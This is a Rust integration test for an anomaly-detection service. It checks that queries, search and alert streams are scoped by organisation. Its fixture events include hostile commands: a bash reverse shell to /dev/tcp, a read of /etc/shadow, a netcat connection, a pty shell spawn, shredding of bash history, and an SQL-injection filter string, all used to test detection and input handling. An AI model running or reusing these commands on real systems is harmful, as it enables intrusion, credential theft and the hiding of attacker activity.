//! The query side through real Kafka, ClickHouse and LanceDB: QueryEvents,
//! GetEvent, Search (the first seed's example) and StreamAlerts, each scoped
//! by org.
#![cfg(feature = "services")]

use std::collections::HashSet;
use std::time::Duration;

use outlier_collector::publish::Publisher;
use outlier_collector::replay::replay;
use outlier_e2e::TestEnv;
use outlier_proto::alert_stream_client::AlertStreamClient;
use outlier_proto::event_query_client::EventQueryClient;
use outlier_proto::search_client::SearchClient;
use outlier_proto::{
    EventKind, GetEventRequest, QueryEventsRequest, SearchRequest, SortOrder, StreamAlertsRequest,
    Verdict, search_request,
};
use tokio_util::sync::CancellationToken;
use tonic::Code;
use tonic::transport::Channel;

fn events(org: &str, prefix: &str) -> String {
    let mut lines = Vec::new();
    // A web workload's routine, repeated so it forms a baseline.
    for i in 0..30 {
        lines.push(format!(
            r#"{{"event_id":"{prefix}-nginx-{i}","org":"{org}","workload":"web","host":"web-{h}","kind":"exec","uid":33,"comm":"nginx","parent_comm":"nginx","argv":["nginx: worker process"]}}"#,
            h = i % 2
        ));
        lines.push(format!(
            r#"{{"event_id":"{prefix}-db-{i}","org":"{org}","workload":"web","host":"web-{h}","kind":"connect","uid":33,"comm":"php-fpm8.2","parent_comm":"php-fpm8.2","remote_ip":"10.0.1.5","remote_port":5432}}"#,
            h = i % 2
        ));
    }
    lines.push(format!(
        r#"{{"event_id":"{prefix}-cron","org":"{org}","workload":"web","host":"web-0","kind":"exec","uid":0,"comm":"logrotate","parent_comm":"cron","argv":["/usr/sbin/logrotate","/etc/logrotate.conf"]}}"#
    ));
    lines.push(format!(
        r#"{{"event_id":"{prefix}-revshell","org":"{org}","workload":"web","host":"web-1","kind":"exec","uid":33,"comm":"bash","parent_comm":"php-fpm8.2","argv":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}}"#
    ));
    lines.push(format!(
        r#"{{"event_id":"{prefix}-shadow","org":"{org}","workload":"web","host":"web-1","kind":"open","uid":33,"comm":"cat","parent_comm":"bash","path":"/etc/shadow","flags":0}}"#
    ));
    lines.join("\n") + "\n"
}

async fn wait_indexed(q: &mut EventQueryClient<Channel>, org: &str, n: usize) {
    for _ in 0..240 {
        let r = q
            .query_events(QueryEventsRequest {
                org: org.into(),
                page_size: 1000,
                ..QueryEventsRequest::default()
            })
            .await;
        if let Ok(r) = r
            && r.into_inner().events.len() >= n
        {
            return;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    panic!("{n} events of {org} never became queryable");
}

/// The next streamed alert; on a time-out, fails with the live events that
/// `topic` holds, to tell a scoring problem from a streaming one.
async fn next_alert(
    env: &TestEnv,
    stream: &mut tonic::Streaming<outlier_proto::AlertEnvelope>,
    topic: &str,
) -> outlier_proto::AlertEnvelope {
    match tokio::time::timeout(Duration::from_secs(30), stream.message()).await {
        Ok(m) => m.unwrap().unwrap(),
        Err(_) => {
            let seen =
                outlier_e2e::read_scored(&env.kafka, topic, Duration::from_secs(10), |_| false)
                    .await;
            let live: Vec<_> = seen
                .iter()
                .filter(|s| s.event.as_ref().unwrap().event_id.contains("live"))
                .map(|s| {
                    (
                        s.event.as_ref().unwrap().event_id.clone(),
                        s.anomaly_score,
                        s.verdict(),
                    )
                })
                .collect();
            panic!("no alert streamed within 30 s; {topic} holds {live:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn query_search_and_alerts_are_org_scoped() {
    let env = TestEnv::new("query").await;
    let shutdown = CancellationToken::new();
    let mut scorer_cfg = env.scorer_config();
    scorer_cfg.baseline.warmup_events = 10;
    let indexer_cfg = env.indexer_config();
    let addr = format!("http://{}", indexer_cfg.grpc_addr);
    let scorer = tokio::spawn(outlier_scorer::run(scorer_cfg, shutdown.clone()));
    let indexer = tokio::spawn(outlier_indexer::run(indexer_cfg, shutdown.clone()));

    let (a, b) = (format!("a-{}", env.id), format!("b-{}", env.id));
    let publisher = Publisher::new(&env.kafka, "e2e").unwrap();
    replay(events(&a, "a").as_bytes(), &publisher)
        .await
        .unwrap();
    replay(events(&b, "b").as_bytes(), &publisher)
        .await
        .unwrap();

    let channel = {
        let mut tries = 0;
        loop {
            match Channel::from_shared(addr.clone()).unwrap().connect().await {
                Ok(c) => break c,
                Err(_) if tries < 100 => {
                    tries += 1;
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
                Err(e) => panic!("grpc: {e}"),
            }
        }
    };
    let mut q = EventQueryClient::new(channel.clone());
    wait_indexed(&mut q, &a, 63).await;
    wait_indexed(&mut q, &b, 63).await;

    // QueryEvents: only the org's events, every filter applied.
    let all = q
        .query_events(QueryEventsRequest {
            org: a.clone(),
            page_size: 1000,
            ..QueryEventsRequest::default()
        })
        .await
        .unwrap()
        .into_inner()
        .events;
    assert_eq!(all.len(), 63);
    assert!(
        all.iter().all(|e| e.event.as_ref().unwrap().org == a),
        "org A sees only org A"
    );
    let ts: Vec<u64> = all
        .iter()
        .map(|e| e.event.as_ref().unwrap().ts_ns)
        .collect();
    assert!(ts.windows(2).all(|w| w[0] >= w[1]), "newest first");

    let alerts = q
        .query_events(QueryEventsRequest {
            org: a.clone(),
            verdicts: vec![Verdict::Alert as i32],
            ..QueryEventsRequest::default()
        })
        .await
        .unwrap()
        .into_inner()
        .events;
    let ids: HashSet<String> = alerts
        .iter()
        .map(|e| e.event.as_ref().unwrap().event_id.clone())
        .collect();
    assert!(
        ids.contains("a-revshell") && ids.contains("a-shadow"),
        "{ids:?}"
    );
    assert!(alerts.iter().all(|e| e.verdict() == Verdict::Alert));

    let opens = q
        .query_events(QueryEventsRequest {
            org: a.clone(),
            kinds: vec![EventKind::Open as i32],
            hosts: vec!["web-1".into()],
            ..QueryEventsRequest::default()
        })
        .await
        .unwrap()
        .into_inner()
        .events;
    assert_eq!(opens.len(), 1);
    let text = q
        .query_events(QueryEventsRequest {
            org: a.clone(),
            text_contains: "/DEV/TCP".into(),
            ..QueryEventsRequest::default()
        })
        .await
        .unwrap()
        .into_inner()
        .events;
    assert_eq!(text.len(), 1);
    assert_eq!(text[0].event.as_ref().unwrap().event_id, "a-revshell");
    // A quote in a filter is a value, not SQL.
    let injected = q
        .query_events(QueryEventsRequest {
            org: format!("{a}' OR '1'='1"),
            ..QueryEventsRequest::default()
        })
        .await
        .unwrap()
        .into_inner()
        .events;
    assert!(injected.is_empty());

    // Pagination: pages of 7 in both sort orders cover everything once.
    for order in [
        SortOrder::NewestFirst,
        SortOrder::OldestFirst,
        SortOrder::ScoreDesc,
    ] {
        let mut seen = Vec::new();
        let mut token = String::new();
        loop {
            let page = q
                .query_events(QueryEventsRequest {
                    org: a.clone(),
                    page_size: 7,
                    page_token: token.clone(),
                    order: order as i32,
                    ..QueryEventsRequest::default()
                })
                .await
                .unwrap()
                .into_inner();
            seen.extend(
                page.events
                    .iter()
                    .map(|e| e.event.as_ref().unwrap().event_id.clone()),
            );
            if page.next_page_token.is_empty() {
                break;
            }
            token = page.next_page_token;
        }
        assert_eq!(seen.len(), 63, "{order:?}");
        assert_eq!(
            seen.iter().collect::<HashSet<_>>().len(),
            63,
            "{order:?}: no duplicates"
        );
    }

    // GetEvent: found in its org, not found from another.
    let got = q
        .get_event(GetEventRequest {
            org: a.clone(),
            event_id: "a-revshell".into(),
        })
        .await
        .unwrap()
        .into_inner();
    let got = got.event.unwrap();
    assert_eq!(got.event.as_ref().unwrap().comm, "bash");
    // The classifier's judgement survives Kafka, ClickHouse and gRPC: a
    // tactic, a technique, and exact-SHAP contributions with sentences.
    assert_ne!(got.threat_category, "benign");
    assert!(got.technique.starts_with('T'), "{}", got.technique);
    assert!(!got.contributions.is_empty());
    assert!(
        got.contributions
            .iter()
            .all(|c| c.shap > 0.0 && !c.sentence.is_empty() && !c.feature.is_empty())
    );
    let err = q
        .get_event(GetEventRequest {
            org: b.clone(),
            event_id: "a-revshell".into(),
        })
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
    let err = q
        .get_event(GetEventRequest {
            org: String::new(),
            event_id: "x".into(),
        })
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);

    // Search: the first seed's example. The query has none of the event's words.
    let mut s = SearchClient::new(channel.clone());
    let mut hits = Vec::new();
    for _ in 0..40 {
        hits = s
            .search(reverse_shell(&a, 5, 0))
            .await
            .unwrap()
            .into_inner()
            .hits;
        if !hits.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let top = hits[0].event.as_ref().unwrap().event.as_ref().unwrap();
    assert_eq!(top.event_id, "a-revshell", "{hits:?}");
    assert!(
        hits.iter()
            .all(|h| h.event.as_ref().unwrap().event.as_ref().unwrap().org == a)
    );
    assert!(hits.windows(2).all(|w| w[0].similarity >= w[1].similarity));
    // Only events since `since_ns`: the reverse shell happened before.
    let later = s
        .search(reverse_shell(&a, 5, top.ts_ns + 1))
        .await
        .unwrap()
        .into_inner()
        .hits;
    assert!(
        !later.is_empty(),
        "org A has events after its reverse shell"
    );
    assert!(
        later.iter().all(|h| {
            let e = h.event.as_ref().unwrap().event.as_ref().unwrap();
            e.event_id != "a-revshell" && e.ts_ns > top.ts_ns
        }),
        "{later:?}"
    );
    let hits_b = s
        .search(reverse_shell(&b, 50, 0))
        .await
        .unwrap()
        .into_inner()
        .hits;
    assert!(!hits_b.is_empty(), "org B finds its own events");
    assert!(
        hits_b
            .iter()
            .all(|h| h.event.as_ref().unwrap().event.as_ref().unwrap().org == b),
        "org B never sees org A"
    );

    // StreamAlerts: from now, only the org's alerts, resumable by cursor.
    let mut alerts_client = AlertStreamClient::new(channel.clone());
    let mut stream = live_stream(&mut alerts_client, &a).await;
    // No wait: the stream starts at the shared reader's position when the
    // call returns.
    let novel = |org: &str, id: &str, port: u32| {
        format!(
            r#"{{"event_id":"{id}","org":"{org}","workload":"web","host":"web-9","kind":"connect","uid":33,"comm":"nc","parent_comm":"php-fpm8.2","remote_ip":"198.51.100.7","remote_port":{port}}}"#
        ) + "\n"
    };
    let st = replay(novel(&b, "b-live-1", 31337).as_bytes(), &publisher)
        .await
        .unwrap();
    assert_eq!(st.published, 1);
    replay(novel(&a, "a-live-1", 31338).as_bytes(), &publisher)
        .await
        .unwrap();
    let first = next_alert(&env, &mut stream, &env.kafka.topics.scored).await;
    assert_eq!(
        first
            .event
            .as_ref()
            .unwrap()
            .event
            .as_ref()
            .unwrap()
            .event_id,
        "a-live-1",
        "org B's alert is not streamed to A"
    );
    drop(stream);
    // A different behaviour (a-live-1 was a warning, so it was learned).
    let pty = format!(
        r#"{{"event_id":"a-live-2","org":"{a}","workload":"web","host":"web-9","kind":"exec","uid":33,"comm":"python3","parent_comm":"php-fpm8.2","argv":["python3","-c","import pty; pty.spawn('/bin/sh')"]}}"#
    ) + "\n";
    replay(pty.as_bytes(), &publisher).await.unwrap();
    let mut resumed = alerts_client
        .stream_alerts(StreamAlertsRequest {
            org: a.clone(),
            resume_cursor: first.cursor.clone(),
            ..StreamAlertsRequest::default()
        })
        .await
        .unwrap()
        .into_inner();
    let next = next_alert(&env, &mut resumed, &env.kafka.topics.alerts).await;
    assert_eq!(
        next.event.unwrap().event.unwrap().event_id,
        "a-live-2",
        "resumes right after the cursor"
    );

    // One reader of the alerts topic serves every stream: with eight open
    // (the resumed one done reading its gap), the indexer holds one Kafka
    // consumer of it, and each stream gets the next alert.
    let mut streams = vec![resumed];
    for _ in 0..7 {
        streams.push(live_stream(&mut alerts_client, &a).await);
    }
    let gauges = || {
        (
            outlier_indexer::metrics::ALERT_STREAMS.get(),
            outlier_indexer::metrics::ALERT_READERS.get(),
        )
    };
    let deadline = tokio::time::Instant::now() + Duration::from_secs(15);
    while gauges() != (8, 1) && tokio::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        gauges(),
        (8, 1),
        "(streams, Kafka readers of the alerts topic)"
    );
    let wiper = format!(
        r#"{{"event_id":"a-live-3","org":"{a}","workload":"web","host":"web-9","kind":"exec","uid":33,"comm":"shred","parent_comm":"php-fpm8.2","argv":["shred","-u","/root/.bash_history"]}}"#
    ) + "\n";
    replay(wiper.as_bytes(), &publisher).await.unwrap();
    for s in &mut streams {
        let got = next_alert(&env, s, &env.kafka.topics.alerts).await;
        assert_eq!(got.event.unwrap().event.unwrap().event_id, "a-live-3");
    }
    drop(streams);
    let deadline = tokio::time::Instant::now() + Duration::from_secs(15);
    while gauges().0 != 0 && tokio::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        gauges(),
        (0, 1),
        "closed streams are let go; the reader stays"
    );

    // A partition added to the alerts topic while streams are open is read
    // too (the hub looks for new partitions every 30 s).
    let mut stream = live_stream(&mut alerts_client, &a).await;
    add_partition_and_send_alert(&env, &a, "a-live-4").await;
    let got = tokio::time::timeout(Duration::from_secs(90), stream.message())
        .await
        .expect("an alert on a new partition streamed within 90 s")
        .unwrap()
        .unwrap();
    assert_eq!(got.event.unwrap().event.unwrap().event_id, "a-live-4");
    drop(stream);

    shutdown.cancel();
    scorer.await.unwrap().unwrap();
    indexer.await.unwrap().unwrap();
    env.cleanup().await;
}

/// A StreamAlerts call for `org` from now.
async fn live_stream(
    client: &mut AlertStreamClient<Channel>,
    org: &str,
) -> tonic::Streaming<outlier_proto::AlertEnvelope> {
    client
        .stream_alerts(StreamAlertsRequest {
            org: org.into(),
            ..StreamAlertsRequest::default()
        })
        .await
        .unwrap()
        .into_inner()
}

/// Grows the test's alerts topic by one partition and writes an alert of
/// `org` straight into it.
async fn add_partition_and_send_alert(env: &TestEnv, org: &str, id: &str) {
    use prost::Message as _;
    use rdkafka::admin::{AdminClient, AdminOptions, NewPartitions};
    use rdkafka::producer::{FutureProducer, FutureRecord};
    let topic = &env.kafka.topics.alerts;
    let admin: AdminClient<rdkafka::client::DefaultClientContext> =
        env.kafka.producer_config("e2e-admin").create().unwrap();
    let r = admin
        .create_partitions(&[NewPartitions::new(topic, 2)], &AdminOptions::new())
        .await
        .unwrap();
    assert!(r.iter().all(|x| x.is_ok()), "{r:?}");
    let mut scored = outlier_proto::ScoredEvent {
        event: Some(outlier_proto::Event {
            event_id: id.into(),
            org: org.into(),
            workload: "web".into(),
            host: "web-9".into(),
            ..outlier_proto::Event::default()
        }),
        ..outlier_proto::ScoredEvent::default()
    };
    scored.set_verdict(Verdict::Alert);
    let producer: FutureProducer = env.kafka.producer_config("e2e").create().unwrap();
    let payload = scored.encode_to_vec();
    // The producer learns of the new partition from fresh metadata.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let sent = producer
            .send(
                FutureRecord::<[u8], _>::to(topic)
                    .partition(1)
                    .payload(&payload),
                Duration::from_secs(5),
            )
            .await;
        match sent {
            Ok(_) => return,
            Err(e) if tokio::time::Instant::now() < deadline => {
                eprintln!("send to the new partition: {e:?}; retrying");
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
            Err(e) => panic!("cannot write to the new partition: {e:?}"),
        }
    }
}

/// The first seed's search, for `org`.
fn reverse_shell(org: &str, limit: u32, since_ns: u64) -> SearchRequest {
    SearchRequest {
        org: org.to_string(),
        query: Some(search_request::Query::Text(
            "reverse shell bash outbound connection".into(),
        )),
        limit,
        since_ns,
        ..SearchRequest::default()
    }
}
